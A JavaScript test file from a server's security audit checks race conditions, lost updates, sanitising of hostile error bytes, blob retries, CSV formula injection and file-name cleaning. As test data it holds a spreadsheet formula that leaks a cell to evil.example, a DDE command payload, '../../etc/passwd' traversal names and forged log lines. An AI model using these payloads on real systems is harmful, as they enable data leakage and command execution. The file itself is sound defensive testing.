// Security audit (issue #15) findings about what the server stores, over real HTTP, on
// the backend the suite runs on (SQLite; PostgreSQL when GOLDSET_DATABASE is set, see
// pg.mjs): F10 (delete-file vs create-items race), F11 (lost partial updates), F12
// (outside bytes in stored error text; bookkeeping retried), F15 (blob I/O errors are
// retried, not "missing"), F18 (CSV formula cells), F19 (file.text names), F21 (every
// stderr line is JSON), F25a (stored comparisons), F25c (subscriptions name a real
// resource). Each test fails on the code the audit reviewed (3dbf614).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import crypto from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import { execFileSync } from 'node:child_process';
import path from 'node:path';
import { startServer, uploadFile, multipartBody, expectError, createKey, createWorkspace, request, RawConn, authHeaders } from './harness.mjs';
import { waitFor } from './webhook_receiver.mjs';
import { databaseEnv } from './pg.mjs';
import { startGatedEngine } from './gated_engine.mjs';
import { invoiceSchema, invoiceText, invoiceExpected, waitForRun, allResults, uploadText } from './eval_fixtures.mjs';

const onPostgres = Boolean(process.env.GOLDSET_DATABASE);
const backend = onPostgres ? 'PostgreSQL' : 'SQLite';

// Decodes bytes as UTF-8, throwing on anything invalid (a plain decode would hide it).
function strictUtf8(bytes) {
  return new TextDecoder('utf-8', { fatal: true }).decode(bytes);
}

// GET with the raw body bytes: the server's JSON must be valid UTF-8 as sent.
async function rawGet(srv, p) {
  const res = await fetch(srv.url + p, {
    headers: { authorization: `Bearer ${srv.key}`, 'x-extend-api-version': '2026-02-09' },
    signal: AbortSignal.timeout(20000),
  });
  const bytes = Buffer.from(await res.arrayBuffer());
  return { status: res.status, headers: res.headers, bytes, json: () => JSON.parse(strictUtf8(bytes)) };
}

// An HTTP server on 127.0.0.1 that answers every request with `status` and `body` (bytes).
async function startFixedServer(status, body) {
  const hits = [];
  const server = http.createServer((req, res) => {
    req.resume();
    req.on('end', () => {
      hits.push(Date.now());
      res.writeHead(status, { 'content-type': 'text/plain', 'content-length': body.length });
      res.end(body);
    });
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${server.address().port}/x`,
    hits,
    close: () => { server.closeAllConnections(); return new Promise((r) => server.close(r)); },
  };
}

// A hostile error body: invalid UTF-8 (\xff\xfe), NUL bytes, JSON and log metacharacters,
// and a two-byte character straddling byte 200, where the stored snippet is cut.
// Sanitised, each of the 3 bad bytes becomes U+FFFD (3 bytes): the é lands on bytes
// 199-200 of the text, so a 200-byte cut must drop it whole.
function hostileBody() {
  const head = Buffer.concat([Buffer.from('upstream error '), Buffer.from([0xff, 0xfe, 0x00]), Buffer.from(' "quoted" \\ \n{"level":"forged"} ')]);
  const pad = Buffer.alloc(199 - (head.length + 6), 'x');
  return Buffer.concat([head, pad, Buffer.from('é tail'), Buffer.from([0x00, 0xff])]);
}

function assertEveryStderrLineIsJson(srv) {
  const text = strictUtf8(srv.stderrBytes());  // throws on invalid UTF-8
  const lines = text.split('\n').filter((l) => l.length > 0);
  assert.ok(lines.length > 0);
  for (const l of lines) {
    let o;
    assert.doesNotThrow(() => { o = JSON.parse(l); }, `not a JSON line: ${l}`);
    assert.equal(typeof o, 'object', l);
  }
  return lines.map((l) => JSON.parse(l));
}

async function makeExtractor(srv, config = { schema: invoiceSchema }) {
  const r = await srv.api('POST', '/extractors', { body: { name: 'x', config } });
  assert.equal(r.status, 200, r.text);
  return r.body;
}

async function makeSet(srv, extractorId) {
  const r = await srv.api('POST', '/evaluation_sets', { body: { name: 's', description: '', entityId: extractorId } });
  assert.equal(r.status, 200, r.text);
  return r.body;
}

test(`F10: DELETE /files/{id} racing item creation never lets both succeed (200 attempts, ${backend})`, { timeout: 300000 }, async (t) => {
  const srv = await startServer({ t, args: ['--rate-limit-write', '0'] });
  const ex = await makeExtractor(srv);
  const set = await makeSet(srv, ex.id);
  let both = 0, itemsWon = 0, deleteWon = 0, neither = 0;
  let createMs = 10;  // running mean of an item creation's duration
  const usedFiles = new Set();
  for (let attempt = 0; attempt < 200; ++attempt) {
    const f = await uploadFile(srv, { name: `f${attempt}.txt`, content: `file ${attempt}\n` });
    assert.equal(f.status, 200, f.text);
    const items = Array.from({ length: 100 }, (_, i) => ({ fileId: f.body.id, expectedOutput: invoiceExpected(i) }));
    // The DELETE goes out at a random moment from half an item creation before it to the
    // end of it, so it lands before, during (the old race window: items validated, not yet
    // inserted) and after the insert, whatever the speed of the build.
    const offsetMs = (Math.random() * 1.5 - 0.5) * createMs;
    const after = (ms, fn) => new Promise((r) => setTimeout(r, Math.max(0, ms))).then(fn);
    const [created, deleted] = await Promise.all([
      after(-offsetMs, async () => {
        const started = Date.now();
        const r = await srv.api('POST', `/evaluation_sets/${set.id}/items`, { body: { items } });
        createMs = 0.8 * createMs + 0.2 * (Date.now() - started);
        return r;
      }),
      after(offsetMs, () => srv.api('DELETE', `/files/${f.body.id}`)),
    ]);
    if (created.status === 200 && deleted.status === 200) ++both;
    else if (created.status === 200) {
      ++itemsWon;
      usedFiles.add(f.body.id);
      expectError(assert, deleted, 400, 'INVALID_REQUEST');
      assert.match(deleted.body.message, /used by 100 evaluation set item/);
    } else if (deleted.status === 200) {
      ++deleteWon;
      expectError(assert, created, 404, 'NOT_FOUND');
      assert.match(created.body.message, /items\[\d+\]\.fileId/);
    } else {
      ++neither;
      assert.fail(`attempt ${attempt}: neither succeeded: ${created.status} ${created.text} / ${deleted.status} ${deleted.text}`);
    }
  }
  t.diagnostic(`F10 on ${backend}: items first ${itemsWon}, delete first ${deleteWon}, both ${both}, neither ${neither} (of 200)`);
  assert.equal(both, 0, 'a file used by items was deleted');
  // Items never refer to a deleted file: every file any item uses is still there (an item
  // whose file is gone shows `file: null`).
  let token, count = 0;
  const referenced = new Set();
  do {
    const page = await srv.api('GET', `/evaluation_sets/${set.id}/items`, { query: { maxPageSize: 1000, ...(token ? { nextPageToken: token } : {}) } });
    assert.equal(page.status, 200, page.text);
    for (const it of page.body.data) {
      ++count;
      assert.ok(it.file, `item ${it.id} refers to a deleted file`);
      referenced.add(it.file.id);
    }
    token = page.body.nextPageToken;
  } while (token);
  assert.equal(count, 100 * itemsWon);
  assert.deepEqual([...referenced].sort(), [...usedFiles].sort());
  for (const id of referenced) assert.equal((await srv.api('GET', `/files/${id}`)).status, 200, `item refers to deleted ${id}`);
  assert.deepEqual(srv.serverErrors(), []);
});

test(`F11: concurrent partial updates lose nothing (200 pairs each for a processor and a webhook endpoint, ${backend})`, { timeout: 300000 }, async (t) => {
  const srv = await startServer({ t, args: ['--rate-limit-write', '0'] });
  const ex = await makeExtractor(srv);
  let lostProcessor = 0;
  for (let i = 0; i < 200; ++i) {
    const config = { schema: { type: 'object', properties: { [`f${i}`]: { type: 'string' } } } };
    const [a, b] = await Promise.all([
      srv.api('POST', `/extractors/${ex.id}`, { body: { name: `name ${i}` } }),
      srv.api('POST', `/extractors/${ex.id}`, { body: { config } }),
    ]);
    assert.equal(a.status, 200, a.text);
    assert.equal(b.status, 200, b.text);
    const now = (await srv.api('GET', `/extractors/${ex.id}`)).body;
    if (now.name !== `name ${i}` || !now.draftVersion.config.schema.properties[`f${i}`]) ++lostProcessor;
  }
  const e = (await srv.api('POST', '/webhook_endpoints', {
    body: { url: 'https://93.184.216.34/hooks', name: 'n', enabledEvents: [], apiVersion: '2026-02-09' },
  })).body;
  const events = ['extractor.created', 'extractor.updated', 'extractor.deleted', 'extractor.draft.updated'];
  let lostEndpoint = 0;
  for (let i = 0; i < 200; ++i) {
    const enabledEvents = events.filter((_, k) => (i >> k) & 1);
    const [a, b] = await Promise.all([
      srv.api('POST', `/webhook_endpoints/${e.id}`, { body: { name: `endpoint ${i}` } }),
      srv.api('POST', `/webhook_endpoints/${e.id}`, { body: { enabledEvents } }),
    ]);
    assert.equal(a.status, 200, a.text);
    assert.equal(b.status, 200, b.text);
    const now = (await srv.api('GET', `/webhook_endpoints/${e.id}`)).body;
    if (now.name !== `endpoint ${i}` || JSON.stringify(now.enabledEvents) !== JSON.stringify(enabledEvents)) ++lostEndpoint;
  }
  t.diagnostic(`F11 on ${backend}: lost updates: processor ${lostProcessor}/200, webhook endpoint ${lostEndpoint}/200`);
  assert.equal(lostProcessor, 0);
  assert.equal(lostEndpoint, 0);
  assert.deepEqual(srv.serverErrors(), []);
});

test(`F12/F21: a receiver's and an engine's invalid UTF-8 and NUL bytes are stored as valid text, attempts count, runs end (${backend})`, { timeout: 120000 }, async (t) => {
  const receiver = await startFixedServer(500, hostileBody());
  t.after(() => receiver.close());
  const srv = await startServer({
    t,
    args: ['--webhook-max-attempts', '3', '--webhook-timeout-ms', '2000', '--webhook-retry-base-ms', '100',
      '--webhook-retry-max-ms', '200', '--item-attempts', '2', '--retry-base-ms', '100'],
  });

  // A webhook delivery: every attempt is recorded, and it stops at --webhook-max-attempts.
  const e = (await srv.api('POST', '/webhook_endpoints', {
    body: { url: receiver.url, name: 'hostile', enabledEvents: [], apiVersion: '2026-02-09' },
  })).body;
  assert.equal((await srv.api('POST', `/webhook_endpoints/${e.id}/test`, { body: {} })).status, 200);
  const seen = [];
  const failed = await waitFor(async () => {
    const r = await rawGet(srv, `/webhook_endpoints/${e.id}/deliveries`);
    assert.equal(r.status, 200);
    const d = r.json().data[0];  // throws if the stored error is not valid UTF-8
    if (d && seen[seen.length - 1] !== d.attemptCount) seen.push(d.attemptCount);
    return d && d.status === 'failed' ? d : null;
  }, { timeoutMs: 30000, intervalMs: 50 });
  assert.ok(failed, `the delivery never failed for good; attempt counts seen: ${seen.join(',')}, receiver hits ${receiver.hits.length}`);
  assert.equal(failed.attemptCount, 3);
  assert.equal(failed.attempts.length, 3);
  for (const a of failed.attempts) {
    assert.equal(a.statusCode, 500);
    assert.match(a.error, /^receiver answered HTTP 500: upstream error \uFFFD\uFFFD\uFFFD "quoted" \\ \n\{"level":"forged"\} x+\.\.\.$/);
    assert.ok(!a.error.includes('\u0000'));
  }
  // --webhook-max-attempts holds: nothing more is sent.
  const hits = receiver.hits.length;
  assert.equal(hits, 3);
  await new Promise((r) => setTimeout(r, 1500));
  assert.equal(receiver.hits.length, hits);

  // A standalone run whose http engine answers the same: FAILED with a valid message.
  const ex = await makeExtractor(srv, { schema: invoiceSchema, engine: { type: 'http', url: receiver.url } });
  const file = await uploadText(srv, 'hostile.txt', invoiceText(1));
  const run = await srv.api('POST', '/extract_runs', { body: { extractor: { id: ex.id }, file: { id: file.id } } });
  assert.equal(run.status, 200, run.text);
  const ended = await waitFor(async () => {
    const r = await rawGet(srv, `/extract_runs/${run.body.id}`);
    const body = r.json();
    return ['PROCESSED', 'FAILED', 'CANCELLED'].includes(body.status) ? body : null;
  }, { timeoutMs: 30000 });
  assert.ok(ended, 'the run never ended (stuck PROCESSING)');
  assert.equal(ended.status, 'FAILED');
  assert.match(ended.failureMessage, /http engine returned 500: upstream error \uFFFD\uFFFD\uFFFD "quoted" \\ \n\{"level":"forged"\} x+\.\.\./);
  assert.ok(!ended.failureMessage.includes('\u0000'));

  // An evaluation item with the same engine: its stored error is valid text too.
  const set = await makeSet(srv, ex.id);
  const items = await srv.api('POST', `/evaluation_sets/${set.id}/items`, { body: { items: [{ fileId: file.id, expectedOutput: invoiceExpected(1) }] } });
  assert.equal(items.status, 200, items.text);
  const evalRun = await srv.api('POST', '/evaluation_set_runs', { body: { evaluationSetId: set.id } });
  assert.equal(evalRun.status, 200, evalRun.text);
  await waitForRun(srv.api, evalRun.body.id, { timeoutMs: 30000 });
  const results = await rawGet(srv, `/evaluation_set_runs/${evalRun.body.id}/results`);
  const item = results.json().data[0];
  assert.match(item.error.message, /upstream error \uFFFD\uFFFD\uFFFD/);

  // An upload's declared Content-Type is outside text too: stored only when printable ASCII.
  const boundary = 'b0undary';
  const upload = Buffer.concat([
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="t.txt"\r\nContent-Type: text/plain`),
    Buffer.from([0xff, 0xfe, 0x00, 0x01]), Buffer.from(`\r\n\r\nhello\r\n--${boundary}--\r\n`)]);
  const up = await srv.api('POST', '/files/upload', { body: upload, headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } });
  assert.equal(up.status, 200, up.text);
  const dl = await fetch((await srv.api('GET', `/files/${up.body.id}`)).body.presignedUrl);
  assert.equal(dl.status, 200);
  assert.equal(dl.headers.get('content-type'), 'application/octet-stream');
  assert.equal(await dl.text(), 'hello');

  // F21: a hostile request path goes into the access log, too.
  const c = new RawConn(srv.url);
  try {
    await c.write(Buffer.concat([Buffer.from('GET /files/a"b\\c'), Buffer.from([0xff, 0xfe]), Buffer.from(`%00%0a HTTP/1.1\r\nHost: x\r\n${authHeaders(srv.key)}\r\n`)]));
    const r = await c.readResponse(5000);
    assert.ok(r.status >= 400 && r.status < 500, JSON.stringify(r));
  } finally { c.destroy(); }
  await srv.stop();
  // Every line the server wrote on stderr is one valid JSON object (and valid UTF-8).
  const lines = assertEveryStderrLineIsJson(srv);
  assert.ok(lines.some((l) => typeof l.path === 'string' && l.path.startsWith('/files/a"b\\c')), 'the hostile path was logged');
});

// Runs SQL on the server's own database (sqlite3 CLI / psql), beside the running server.
function execSql(srv, sql) {
  if (onPostgres) {
    execFileSync('psql', ['-X', '-q', '-v', 'ON_ERROR_STOP=1', databaseEnv(srv.dataDir).GOLDSET_DATABASE, '-c', sql], { timeout: 30000 });
  } else {
    execFileSync('sqlite3', ['-cmd', '.timeout 10000', path.join(srv.dataDir, 'goldset.db'), sql], { timeout: 30000 });
  }
}

// Makes the database refuse (as a constraint would) writes of error text that contains
// `word`: webhook attempts, a standalone run's failure message, a run item's error.
function refuseErrorText(srv, word) {
  if (onPostgres) {
    execSql(srv, `CREATE FUNCTION refuse_text() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RAISE EXCEPTION 'refused by the test' USING ERRCODE = '23514'; END $$;
      CREATE TRIGGER refuse_attempt BEFORE INSERT ON webhook_attempts FOR EACH ROW WHEN (NEW.error LIKE '%${word}%') EXECUTE FUNCTION refuse_text();
      CREATE TRIGGER refuse_run BEFORE UPDATE ON processor_runs FOR EACH ROW WHEN (NEW.failure_message LIKE '%${word}%') EXECUTE FUNCTION refuse_text();
      CREATE TRIGGER refuse_item BEFORE UPDATE ON evaluation_run_items FOR EACH ROW WHEN (NEW.error_message LIKE '%${word}%') EXECUTE FUNCTION refuse_text();`);
  } else {
    execSql(srv, `CREATE TRIGGER refuse_attempt BEFORE INSERT ON webhook_attempts WHEN NEW.error LIKE '%${word}%' BEGIN SELECT RAISE(ABORT, 'refused by the test'); END;
      CREATE TRIGGER refuse_run BEFORE UPDATE ON processor_runs WHEN NEW.failure_message LIKE '%${word}%' BEGIN SELECT RAISE(ABORT, 'refused by the test'); END;
      CREATE TRIGGER refuse_item BEFORE UPDATE ON evaluation_run_items WHEN NEW.error_message LIKE '%${word}%' BEGIN SELECT RAISE(ABORT, 'refused by the test'); END;`);
  }
}

test(`F12: a bookkeeping write that fails is retried without the outside text: attempts count, runs end (${backend})`, { timeout: 120000 }, async (t) => {
  const receiver = await startFixedServer(500, Buffer.from('upstream exploded'));
  t.after(() => receiver.close());
  const srv = await startServer({
    t,
    args: ['--webhook-max-attempts', '3', '--webhook-timeout-ms', '2000', '--webhook-retry-base-ms', '100',
      '--webhook-retry-max-ms', '200', '--item-attempts', '2', '--retry-base-ms', '100'],
  });
  refuseErrorText(srv, 'upstream');
  const e = (await srv.api('POST', '/webhook_endpoints', {
    body: { url: receiver.url, name: 'refused', enabledEvents: [], apiVersion: '2026-02-09' },
  })).body;
  assert.equal((await srv.api('POST', `/webhook_endpoints/${e.id}/test`, { body: {} })).status, 200);
  const failed = await waitFor(async () => {
    const d = (await srv.api('GET', `/webhook_endpoints/${e.id}/deliveries`)).body.data[0];
    return d && d.status === 'failed' ? d : null;
  }, { timeoutMs: 30000 });
  assert.ok(failed, `the delivery never failed for good (receiver hits: ${receiver.hits.length})`);
  assert.equal(failed.attemptCount, 3);
  assert.deepEqual(failed.attempts.map((a) => a.error), Array(3).fill("receiver answered HTTP 500 (the error's details could not be stored)"));
  await new Promise((r) => setTimeout(r, 1000));
  assert.equal(receiver.hits.length, 3, '--webhook-max-attempts holds');

  const ex = await makeExtractor(srv, { schema: invoiceSchema, engine: { type: 'http', url: receiver.url } });
  const file = await uploadText(srv, 'refused.txt', invoiceText(2));
  const run = await srv.api('POST', '/extract_runs', { body: { extractor: { id: ex.id }, file: { id: file.id } } });
  assert.equal(run.status, 200, run.text);
  const ended = await waitFor(async () => {
    const r = (await srv.api('GET', `/extract_runs/${run.body.id}`)).body;
    return ['PROCESSED', 'FAILED', 'CANCELLED'].includes(r.status) ? r : null;
  }, { timeoutMs: 30000 });
  assert.ok(ended, 'the run stayed PROCESSING');
  assert.equal(ended.status, 'FAILED');
  assert.equal(ended.failureReason, 'INTERNAL_ERROR');
  assert.match(ended.failureMessage, /^the run's outcome could not be stored \(/);

  // An evaluation item: its retry and its failure are stored without the refused text.
  const set = await makeSet(srv, ex.id);
  assert.equal((await srv.api('POST', `/evaluation_sets/${set.id}/items`, { body: { items: [{ fileId: file.id, expectedOutput: invoiceExpected(2) }] } })).status, 200);
  const evalRun = await srv.api('POST', '/evaluation_set_runs', { body: { evaluationSetId: set.id } });
  assert.equal(evalRun.status, 200, evalRun.text);
  const finished = await waitForRun(srv.api, evalRun.body.id, { timeoutMs: 30000 });
  assert.equal(finished.status, 'FAILED');
  const [item] = await allResults(srv.api, evalRun.body.id);
  assert.equal(item.status, 'FAILED');
  assert.equal(item.error.code, 'INTERNAL_ERROR');
  assert.match(item.error.message, /^the item's outcome could not be stored \(/);
  await srv.stop();
  // F21: the refused writes were logged, as JSON lines like every other.
  const lines = assertEveryStderrLineIsJson(srv);
  assert.ok(lines.some((l) => l.level === 'error' && /refused by the test/.test(l.msg)), 'the refusal was logged');
  assert.ok(lines.some((l) => l.level === 'error' && /^retry .*refused by the test/.test(l.msg)), 'the refused retry was logged');
});

test(`F15: a blob that cannot be read for a moment (not missing) makes the run retry, not fail (${backend})`, { timeout: 60000, skip: onPostgres && 'blobs live in the database on PostgreSQL' }, async (t) => {
  const srv = await startServer({ t, args: ['--item-attempts', '6', '--retry-base-ms', '300'] });
  const ex = await makeExtractor(srv);
  const text = invoiceText(15) + `nonce ${crypto.randomUUID()}\n`;  // bytes no parse cache has seen
  const file = await uploadText(srv, 'f15.txt', text);
  const sha = crypto.createHash('sha256').update(Buffer.from(text)).digest('hex');
  const blob = path.join(srv.dataDir, 'blobs', sha.slice(0, 2), sha);
  assert.ok(fs.existsSync(blob));
  // A link to itself: open() fails with ELOOP, an I/O error like EMFILE or EIO.
  fs.renameSync(blob, `${blob}.aside`);
  fs.symlinkSync(sha, blob);
  const run = await srv.api('POST', '/extract_runs', { body: { extractor: { id: ex.id }, file: { id: file.id } } });
  assert.equal(run.status, 200, run.text);
  await new Promise((r) => setTimeout(r, 1500));  // a few attempts fail meanwhile
  const during = (await srv.api('GET', `/extract_runs/${run.body.id}`)).body;
  assert.ok(['PENDING', 'PROCESSING'].includes(during.status), `${during.status}: ${during.failureMessage}`);
  fs.unlinkSync(blob);
  fs.renameSync(`${blob}.aside`, blob);
  const ended = await waitFor(async () => {
    const r = (await srv.api('GET', `/extract_runs/${run.body.id}`)).body;
    return ['PROCESSED', 'FAILED'].includes(r.status) ? r : null;
  }, { timeoutMs: 30000 });
  assert.ok(ended);
  assert.equal(ended.status, 'PROCESSED', ended.failureMessage);
  assert.equal(ended.output.value.invoice_number, 'INV-1015');
  assert.deepEqual(srv.serverErrors(), []);
});

// F15 / issue 16 ("reported as what they are"): a blob that stays unreadable is an I/O
// failure, retried until --item-attempts and then reported as I/O; a blob that is really
// gone is permanent: the item fails at its first attempt and says the bytes are missing.
test(`F15: an unreadable blob is retried and reported as I/O; a missing blob fails at once as missing (${backend})`, { timeout: 90000, skip: onPostgres && 'blobs live in the database on PostgreSQL' }, async (t) => {
  const srv = await startServer({ t, args: ['--item-attempts', '3', '--retry-base-ms', '100'] });
  const ex = await makeExtractor(srv);
  const set = await makeSet(srv, ex.id);
  const blobOf = (text) => {
    const sha = crypto.createHash('sha256').update(Buffer.from(text)).digest('hex');
    return path.join(srv.dataDir, 'blobs', sha.slice(0, 2), sha);
  };
  const texts = ['unreadable', 'missing'].map((w) => invoiceText(16) + `${w} ${crypto.randomUUID()}\n`);
  const files = [];
  for (const [i, text] of texts.entries()) files.push(await uploadText(srv, `f15-${i}.txt`, text));
  const [unreadable, missing] = texts.map(blobOf);
  fs.unlinkSync(unreadable);
  fs.symlinkSync(path.basename(unreadable), unreadable);  // open() fails with ELOOP: I/O, not ENOENT
  fs.unlinkSync(missing);
  const items = await srv.api('POST', `/evaluation_sets/${set.id}/items`, {
    body: { items: files.map((f) => ({ fileId: f.id, expectedOutput: invoiceExpected(16) })) } });
  assert.equal(items.status, 200, items.text);
  const run = (await srv.api('POST', '/evaluation_set_runs', { body: { evaluationSetId: set.id } })).body;
  const done = await waitForRun(srv.api, run.id, { timeoutMs: 60000 });
  const byFile = new Map((await allResults(srv.api, run.id)).map((r) => [r.file?.id, r]));
  const io = byFile.get(files[0].id), gone = byFile.get(files[1].id);
  t.diagnostic(`unreadable: ${JSON.stringify(io.error)} after ${io.attempts}; missing: ${JSON.stringify(gone.error)} after ${gone.attempts}`);
  assert.equal(done.metrics.numFilesFailed, 2);
  assert.equal(io.status, 'FAILED');
  assert.equal(io.attempts, 3, 'a transient I/O failure is retried up to --item-attempts');
  assert.match(io.error.message, /cannot open .*Too many levels of symbolic links/);
  assert.doesNotMatch(io.error.message, /missing/);
  assert.ok(!io.error.message.includes(srv.dataDir), `the data directory reached the tenant: ${io.error.message}`);
  assert.equal(gone.status, 'FAILED');
  assert.equal(gone.attempts, 1, 'a missing blob is permanent: no retry');
  assert.match(gone.error.message, /is missing/);
  assert.deepEqual(srv.serverErrors(), []);
});

// A minimal RFC 4180 reader: rows of cells.
function parseCsv(text) {
  const rows = [];
  let row = [], cell = '', quoted = false;
  for (let i = 0; i < text.length; ++i) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') { cell += '"'; ++i; } else if (ch === '"') quoted = false; else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') { row.push(cell); cell = ''; } else if (ch === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; ++i; } else cell += ch;
  }
  return rows;
}

test(`F18: results.csv neutralises formula cells (= + - @ tab CR) and leaves plain numbers alone (${backend})`, { timeout: 60000 }, async (t) => {
  const srv = await startServer({ t });
  const schema = {
    type: 'object',
    properties: Object.fromEntries(['eq', 'minus', 'plus', 'at', 'tab', 'cr', 'plain', 'numtext'].map((k) => [k, { type: ['string', 'null'] }])
      .concat([['negative', { type: ['number', 'null'] }]])),
  };
  const ex = await makeExtractor(srv, { schema });
  const set = await makeSet(srv, ex.id);
  const file = await uploadText(srv, 'csv.txt', 'nothing to extract here\n');
  const expected = {
    eq: '=HYPERLINK("http://evil.example/x?leak="&A1,"click")',
    minus: '-1+1',
    plus: '+1+cmd|\' /C calc\'!A0',
    at: '@SUM(A1:A9)',
    tab: '\t=1+1',
    cr: '\r=1+1',
    plain: 'Vendor, Inc.',
    numtext: '-12.5',
    negative: -12.5,
  };
  const items = await srv.api('POST', `/evaluation_sets/${set.id}/items`, { body: { items: [{ fileId: file.id, expectedOutput: { value: expected } }] } });
  assert.equal(items.status, 200, items.text);
  const run = await srv.api('POST', '/evaluation_set_runs', { body: { evaluationSetId: set.id } });
  assert.equal(run.status, 200, run.text);
  await waitForRun(srv.api, run.body.id);
  const csv = await srv.api('GET', `/evaluation_set_runs/${run.body.id}/results.csv`);
  assert.equal(csv.status, 200);
  const rows = parseCsv(csv.text);
  assert.deepEqual(rows[0], ['itemId', 'fileName', 'fieldPath', 'expected', 'actual', 'verdict', 'score', 'reason', 'category']);
  const cell = Object.fromEntries(rows.slice(1).map((r) => [r[2], r[3]]));
  assert.equal(cell.eq, `'${expected.eq}`);
  assert.equal(cell.minus, "'-1+1");
  assert.equal(cell.plus, `'${expected.plus}`);
  assert.equal(cell.at, "'@SUM(A1:A9)");
  assert.equal(cell.tab, "'\t=1+1");
  assert.equal(cell.cr, "'\r=1+1");
  assert.equal(cell.plain, 'Vendor, Inc.');
  // A cell that is only a number is read as that number by every spreadsheet, never as a
  // formula: left as it is (documented in docs/evaluation.md).
  assert.equal(cell.numtext, '-12.5');
  assert.match(cell.negative, /^-[\d.]+(E\d+)?$/);  // a JSON number as the server writes it
  assert.equal(Number(cell.negative), -12.5);
  // No cell of the file starts with a formula character unless it is a plain number.
  for (const r of rows) for (const c of r) assert.ok(!/^[=+\-@\t\r]/.test(c) || /^[-+]?[\d.]+([eE][-+]?\d+)?$/.test(c), JSON.stringify(c));
});

test(`F19: file.text names are cleaned and refused exactly as upload names are (${backend})`, { timeout: 60000 }, async (t) => {
  const srv = await startServer({ t });
  const ex = await makeExtractor(srv);
  const runWith = (name) => srv.api('POST', '/extract_runs', { body: { extractor: { id: ex.id }, file: { text: 'hello', name } } });
  // An upload with this file name, sent byte for byte (FormData would percent-encode it).
  const upload = (filename) => {
    const { body, contentType } = multipartBody([{ name: 'file', filename, type: 'text/plain', data: 'hello' }]);
    return srv.api('POST', '/files/upload', { body, headers: { 'content-type': contentType } });
  };
  for (const bad of ['bell\u0007.txt', 'line\nbreak.txt', 'del\u007f.txt', 'x'.repeat(256), `${'é'.repeat(128)}.txt`]) {
    const before = (await srv.api('GET', '/files', { query: { maxPageSize: 100 } })).body.data.length;
    const r = await runWith(bad);
    expectError(assert, r, 400, 'INVALID_REQUEST');
    assert.match(r.body.message, /^file\.name: /);
    // The same name as an upload is refused the same way (a line break cannot be sent in a
    // multipart header line at all).
    if (!bad.includes('\n')) {
      const up = await upload(bad);
      expectError(assert, up, 400, 'INVALID_REQUEST');
      assert.equal(up.body.message.replace(/^Upload could not be stored: /, ''), r.body.message.replace(/^file\.name: /, ''));
    }
    assert.equal((await srv.api('GET', '/files', { query: { maxPageSize: 100 } })).body.data.length, before, 'nothing stored');
  }
  expectError(assert, await runWith(42), 400, 'INVALID_REQUEST');
  // A Windows path loses its directory part too (in a multipart header a backslash is a
  // quoted-string escape, so only the JSON route can send this one).
  assert.equal((await runWith('C:\\Users\\x.txt')).status, 200);
  assert.equal((await srv.api('GET', '/files', { query: { maxPageSize: 1, sortDir: 'desc' } })).body.data[0].name, 'x.txt');
  // Cleaned, not refused: a directory part goes, as for uploads; 255 bytes is the limit.
  for (const [given, stored] of [['../../etc/passwd', 'passwd'], ['dir/sub/x.txt', 'x.txt'], ['..', 'blob'], ['x'.repeat(255), 'x'.repeat(255)]]) {
    const r = await runWith(given);
    assert.equal(r.status, 200, r.text);
    const newest = (await srv.api('GET', '/files', { query: { maxPageSize: 1, sortDir: 'desc' } })).body.data[0];
    assert.equal(newest.name, stored);
    const up = await upload(given);
    assert.equal(up.status, 200, up.text);
    assert.equal(up.body.name, stored);
  }
  assert.deepEqual(srv.serverErrors(), []);
});

test(`F25a: a comparison of two finished runs is computed once and then served as stored; unfinished runs are not stored (${backend})`, { timeout: 90000 }, async (t) => {
  const engine = await startGatedEngine();
  t.after(() => engine.close());
  const srv = await startServer({ t });
  const ex = await makeExtractor(srv);
  const set = await makeSet(srv, ex.id);
  const batch = [];
  for (let i = 0; i < 3; ++i) {
    const f = await uploadText(srv, `c${i}.txt`, invoiceText(i));
    batch.push({ fileId: f.id, expectedOutput: invoiceExpected(i, i === 2 ? ['vendor'] : []) });
  }
  assert.equal((await srv.api('POST', `/evaluation_sets/${set.id}/items`, { body: { items: batch } })).status, 200);
  const startRun = async () => {
    const r = await srv.api('POST', '/evaluation_set_runs', { body: { evaluationSetId: set.id } });
    assert.equal(r.status, 200, r.text);
    return r.body.id;
  };
  const a = await startRun();
  const b = await startRun();
  await waitForRun(srv.api, a);
  await waitForRun(srv.api, b);
  const compare = (run, baseline) => srv.api('GET', `/evaluation_set_runs/${run}/compare`, { query: { baseline } });
  const first = await compare(b, a);
  assert.equal(first.status, 200, first.text);
  assert.equal(first.headers['x-goldset-cache'], 'miss');
  const second = await compare(b, a);
  assert.equal(second.status, 200);
  assert.equal(second.headers['x-goldset-cache'], 'hit');
  assert.equal(second.text, first.text, 'the stored answer is the computed one');
  // Another pair is another entry.
  const reversed = await compare(a, b);
  assert.equal(reversed.headers['x-goldset-cache'], 'miss');
  assert.equal(reversed.body.runId, a);
  assert.equal((await compare(a, b)).headers['x-goldset-cache'], 'hit');
  // Another workspace cannot reach the stored comparison.
  const ws2 = await createWorkspace(srv.dataDir, ['--name', 'other']);
  const key2 = await createKey(srv.dataDir, ['--workspace', ws2]);
  expectError(assert, await request(srv.url, 'GET', `/evaluation_set_runs/${b}/compare`, { key: key2, query: { baseline: a } }), 404, 'NOT_FOUND');

  // A run still going: computed on every request, never stored.
  const draft = await srv.api('POST', `/extractors/${ex.id}`, { body: { config: { schema: invoiceSchema, engine: { type: 'http', url: engine.url } } } });
  assert.equal(draft.status, 200, draft.text);
  const c = await startRun();
  assert.ok(await waitFor(() => engine.calls() > 0, { timeoutMs: 20000 }), 'the gated engine was never called');
  for (let i = 0; i < 2; ++i) {
    const during = await compare(c, a);
    assert.equal(during.status, 200, during.text);
    assert.equal(during.headers['x-goldset-cache'], 'bypass');
  }
  const releasing = setInterval(() => engine.release(), 50);
  try {
    await waitForRun(srv.api, c);
  } finally { clearInterval(releasing); }
  const after = await compare(c, a);
  assert.equal(after.headers['x-goldset-cache'], 'miss', 'nothing was stored while the run was going');
  assert.equal((await compare(c, a)).headers['x-goldset-cache'], 'hit');
  assert.deepEqual(srv.serverErrors(), []);
});

